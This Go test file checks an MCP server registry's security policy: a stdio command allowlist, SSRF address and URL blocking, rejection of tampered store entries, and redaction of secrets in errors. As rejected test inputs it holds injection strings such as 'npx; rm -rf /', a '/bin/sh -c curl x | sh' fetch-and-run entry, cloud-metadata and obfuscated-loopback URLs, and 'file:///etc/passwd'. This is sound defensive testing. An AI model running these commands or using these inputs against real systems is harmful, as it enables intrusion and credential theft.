package manager

import (
	"context"
	"errors"
	"net/netip"
	"strings"
	"testing"
	"time"
)

func stdioEntry(id, command string, args ...string) ServerConfig {
	return ServerConfig{ID: id, Transport: Transport{Kind: TransportStdio, Command: command, Args: args}}
}

func httpEntry(id, url string) ServerConfig {
	return ServerConfig{ID: id, Transport: Transport{Kind: TransportHTTP, URL: url}}
}

func TestRegistryDefaultsAndRoundTrip(t *testing.T) {
	ctx := context.Background()
	r := NewRegistry(NewMemoryServerStore(), Policy{})
	saved, err := r.Save(ctx, stdioEntry("crm", "npx", "-y", "crm-server"))
	if err != nil {
		t.Fatal(err)
	}
	if saved.ConnectTimeout != 30*time.Second || saved.ToolTimeout != 30*time.Second || saved.MaxRetries != 2 {
		t.Errorf("defaults not filled in: %+v", saved)
	}
	got, err := r.Load(ctx, "crm")
	if err != nil {
		t.Fatal(err)
	}
	if got.Transport.Command != "npx" || len(got.Transport.Args) != 2 {
		t.Errorf("Load = %+v", got)
	}
	// Disabling is kept as such, not replaced by the default on reload.
	off := stdioEntry("quiet", "node", "s.js")
	off.ToolTimeout, off.MaxRetries, off.ConnectTimeout = NoTimeout, NoRetries, NoTimeout
	if _, err := r.Save(ctx, off); err != nil {
		t.Fatal(err)
	}
	q, err := r.Load(ctx, "quiet")
	if err != nil {
		t.Fatal(err)
	}
	if q.EffectiveToolTimeout() != 0 || q.EffectiveMaxRetries() != 0 || q.EffectiveConnectTimeout() != 0 {
		t.Errorf("disabled limits came back as %v, %d, %v", q.EffectiveToolTimeout(), q.EffectiveMaxRetries(), q.EffectiveConnectTimeout())
	}
	if _, err := r.Load(ctx, "nope"); !errors.Is(err, ErrServerNotFound) {
		t.Errorf("Load(nope) = %v, want ErrServerNotFound", err)
	}
	if err := r.Delete(ctx, "crm"); err != nil {
		t.Fatal(err)
	}
	if err := r.Delete(ctx, "crm"); !errors.Is(err, ErrServerNotFound) {
		t.Errorf("second Delete = %v", err)
	}
}

func TestRegistryStdioAllowlist(t *testing.T) {
	ctx := context.Background()
	r := NewRegistry(NewMemoryServerStore(), Policy{StdioCommands: []string{"my-server"}})
	for _, c := range []string{"npx", "node", "python3", "python", "uvx", "my-server"} {
		if _, err := r.Save(ctx, stdioEntry("ok", c)); err != nil {
			t.Errorf("%s refused: %v", c, err)
		}
	}
	for _, c := range []string{"/usr/bin/npx", "npx;rm", "npx; rm -rf /", "./npx", "../x", "..", ".", "npx ", " npx", "bash", "sh",
		`C:\node.exe`, "npx\x00", "$(npx)", "`npx`", "npx|sh", "npx&&id", "NPX", ""} {
		_, err := r.Save(ctx, stdioEntry("bad", c))
		var ce *ConfigError
		if !errors.As(err, &ce) {
			t.Errorf("command %q accepted (err %v)", c, err)
			continue
		}
		if !strings.Contains(err.Error(), "transport.command") {
			t.Errorf("command %q: error does not name the field: %v", c, err)
		}
	}
	for _, key := range []string{"PATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS", "ld_preload"} {
		e := stdioEntry("env", "node")
		e.Transport.Env = map[string]string{key: "secret-value-123"}
		_, err := r.Save(ctx, e)
		if err == nil {
			t.Errorf("env %s accepted", key)
			continue
		}
		if strings.Contains(err.Error(), "secret-value-123") {
			t.Errorf("error quotes an env value: %v", err)
		}
	}
	off := NewRegistry(NewMemoryServerStore(), Policy{DisableStdio: true})
	if _, err := off.Save(ctx, stdioEntry("x", "npx")); err == nil || !strings.Contains(err.Error(), EnvDisableStdio) {
		t.Errorf("stdio not disabled: %v", err)
	}
}

func TestRegistryRejectsTamperedStore(t *testing.T) {
	ctx := context.Background()
	store := NewMemoryServerStore()
	r := NewRegistry(store, Policy{})
	if _, err := r.Save(ctx, stdioEntry("good", "node", "s.js")); err != nil {
		t.Fatal(err)
	}
	// Written behind the registry's back, as a compromised database would.
	_ = store.Put(ctx, stdioEntry("evil", "/bin/sh", "-c", "curl x | sh"))
	_ = store.Put(ctx, httpEntry("meta", "http://169.254.169.254/latest/meta-data/"))
	if _, err := r.Load(ctx, "evil"); err == nil {
		t.Fatal("Load accepted a tampered stdio entry")
	}
	if _, err := r.Load(ctx, "meta"); !errors.Is(err, ErrBlockedAddress) && !strings.Contains(err.Error(), "cloud metadata") {
		t.Fatalf("Load(meta) = %v", err)
	}
	list, err := r.List(ctx)
	if len(list) != 1 || list[0].ID != "good" {
		t.Errorf("List returned %v", list)
	}
	if err == nil || !strings.Contains(err.Error(), `"evil"`) || !strings.Contains(err.Error(), `"meta"`) {
		t.Errorf("List error does not name both bad entries: %v", err)
	}
	// A stricter policy applies to what is already stored.
	strict := NewRegistry(store, Policy{DisableStdio: true})
	if _, err := strict.Load(ctx, "good"); err == nil {
		t.Error("stdio entry loaded under a policy that disables stdio")
	}
}

func TestRegistryURLs(t *testing.T) {
	ctx := context.Background()
	pub := NewRegistry(NewMemoryServerStore(), Policy{})
	dev := NewRegistry(NewMemoryServerStore(), Policy{AllowPrivateNetworks: true})
	cases := []struct {
		url           string
		public, local bool // accepted by each
	}{
		{"https://mcp.example.com/mcp", true, true},
		{"https://93.184.216.34/mcp", true, true},
		{"http://127.0.0.1:8080/mcp", false, true},
		{"http://localhost:8080/mcp", false, true},
		{"http://api.localhost/mcp", false, true},
		{"http://[::1]/mcp", false, true},
		{"http://10.1.2.3/", false, true},
		{"http://172.20.0.1/", false, true},
		{"http://192.168.1.1/", false, true},
		{"http://100.64.0.1/", false, true},
		{"http://[fd12::1]/", false, true},
		{"http://[fe80::1]/", false, true},
		{"http://[::ffff:127.0.0.1]/", false, true},
		{"http://169.254.169.254/latest", false, false},
		{"http://[fd00:ec2::254]/", false, false},
		{"http://[::ffff:169.254.169.254]/", false, false},
		{"http://100.100.100.200/", false, false},
		{"http://metadata.google.internal/", false, false},
		{"http://0.0.0.0/", false, false},
		{"http://2130706433/", false, false},
		{"http://0x7f000001/", false, false},
		{"http://0177.0.0.1/", false, false},
		{"http://127.1/", false, false},
		{"ftp://example.com/", false, false},
		{"file:///etc/passwd", false, false},
		{"http:///nohost", false, false},
		{"https://mcp.example.com:99999/", false, false},
	}
	for _, c := range cases {
		_, err := pub.Save(ctx, httpEntry("s", c.url))
		if (err == nil) != c.public {
			t.Errorf("public policy, %s: err = %v", c.url, err)
		}
		_, err = dev.Save(ctx, httpEntry("s", c.url))
		if (err == nil) != c.local {
			t.Errorf("private-network policy, %s: err = %v", c.url, err)
		}
	}
	// Secrets in the URL and headers never reach the error.
	e := httpEntry("s", "http://user:hunter2-password@127.0.0.1/mcp?token=tok-abcdef")
	e.Transport.Headers = map[string]string{"Authorization": "Bearer tok-xyz\r\nX: y"}
	_, err := pub.Save(ctx, e)
	if err == nil {
		t.Fatal("accepted")
	}
	for _, s := range []string{"hunter2", "tok-abcdef", "tok-xyz"} {
		if strings.Contains(err.Error(), s) {
			t.Errorf("error leaks %q: %v", s, err)
		}
	}
	if s := e.String() + e.Transport.GoString(); strings.Contains(s, "hunter2") || strings.Contains(s, "tok-") {
		t.Errorf("String leaks: %s", s)
	}
}

type fixedResolver map[string][]netip.Addr

func (r fixedResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := r[host]; ok {
		return a, nil
	}
	return nil, errors.New("no such host")
}

func TestRegistryResolvesWithResolver(t *testing.T) {
	ctx := context.Background()
	res := fixedResolver{
		"public.test":   {netip.MustParseAddr("93.184.216.34")},
		"internal.test": {netip.MustParseAddr("93.184.216.34"), netip.MustParseAddr("10.0.0.5")},
	}
	r := NewRegistry(NewMemoryServerStore(), Policy{Resolver: res})
	if _, err := r.Save(ctx, httpEntry("a", "https://public.test/mcp")); err != nil {
		t.Fatal(err)
	}
	_, err := r.Save(ctx, httpEntry("b", "https://internal.test/mcp"))
	var be *BlockedAddressError
	if !errors.As(err, &be) && !strings.Contains(err.Error(), "10.0.0.5") {
		t.Fatalf("a name resolving to a private address was saved: %v", err)
	}
}

func TestPolicyFromEnv(t *testing.T) {
	t.Setenv(EnvDisableStdio, "1")
	t.Setenv(EnvAllowPrivateNetworks, "true")
	t.Setenv(EnvStdioCommands, "deno, bun")
	p, err := PolicyFromEnv()
	if err != nil {
		t.Fatal(err)
	}
	if !p.DisableStdio || !p.AllowPrivateNetworks || strings.Join(p.StdioCommands, ",") != "deno,bun" {
		t.Errorf("PolicyFromEnv = %+v", p)
	}
	t.Setenv(EnvStdioCommands, "/bin/sh")
	if _, err := PolicyFromEnv(); err == nil {
		t.Error("a path in the command list was accepted")
	}
	t.Setenv(EnvStdioCommands, "")
	t.Setenv(EnvAllowPrivateNetworks, "yes please")
	if _, err := PolicyFromEnv(); err == nil {
		t.Error("a non-boolean switch was accepted")
	}
}

func TestCheckAddr(t *testing.T) {
	cases := []struct {
		addr         string
		reason       string // "" for public
		allowPrivate bool   // passes with AllowPrivate
	}{
		{"93.184.216.34", "", true},
		{"2606:4700::1111", "", true},
		{"127.0.0.1", "loopback", true},
		{"::1", "loopback", true},
		{"10.0.0.1", "private", true},
		{"100.64.1.1", "carrier-grade NAT", true},
		{"169.254.1.1", "link-local", true},
		{"fe80::1%eth0", "link-local", true},
		{"fd00::1", "unique-local", true},
		{"::ffff:10.0.0.1", "private", true},
		{"64:ff9b::a00:1", "private", true}, // NAT64 of 10.0.0.1
		{"2002:7f00:1::", "loopback", true}, // 6to4 of 127.0.0.1
		{"169.254.169.254", "cloud metadata", false},
		{"::ffff:169.254.169.254", "cloud metadata", false},
		{"64:ff9b::a9fe:a9fe", "cloud metadata", false},
		{"fd00:ec2::254", "cloud metadata", false},
		{"0.0.0.0", "unspecified (\"this network\")", false},
		{"::", "unspecified", false},
		{"224.0.0.1", "multicast", false},
		{"255.255.255.255", "broadcast", false},
		{"::7f00:1", "IPv4-compatible (deprecated)", false},
	}
	for _, c := range cases {
		a := netip.MustParseAddr(c.addr)
		err := CheckAddr(a, false)
		if c.reason == "" {
			if err != nil {
				t.Errorf("%s blocked: %v", c.addr, err)
			}
			continue
		}
		var be *BlockedAddressError
		if !errors.As(err, &be) || be.Reason != c.reason {
			t.Errorf("%s: err = %v, want reason %q", c.addr, err, c.reason)
		}
		if got := CheckAddr(a, true) == nil; got != c.allowPrivate {
			t.Errorf("%s with private networks allowed: passes = %v", c.addr, got)
		}
	}
}

func TestSchemaHashIsCanonical(t *testing.T) {
	a := SchemaHash([]byte(`{"type":"object","properties":{"a":{"type":"string"}}}`), nil)
	b := SchemaHash([]byte("{ \"properties\": {\"a\": {\"type\":\"string\"}},\n \"type\": \"object\" }"), []byte("null"))
	if a != b || !strings.HasPrefix(a, "sha256:") {
		t.Errorf("equal schemas hash differently: %s %s", a, b)
	}
	if c := SchemaHash([]byte(`{"type":"object"}`), []byte(`{"type":"object"}`)); c == SchemaHash([]byte(`{"type":"object"}`), nil) {
		t.Error("an output schema does not change the hash")
	}
}
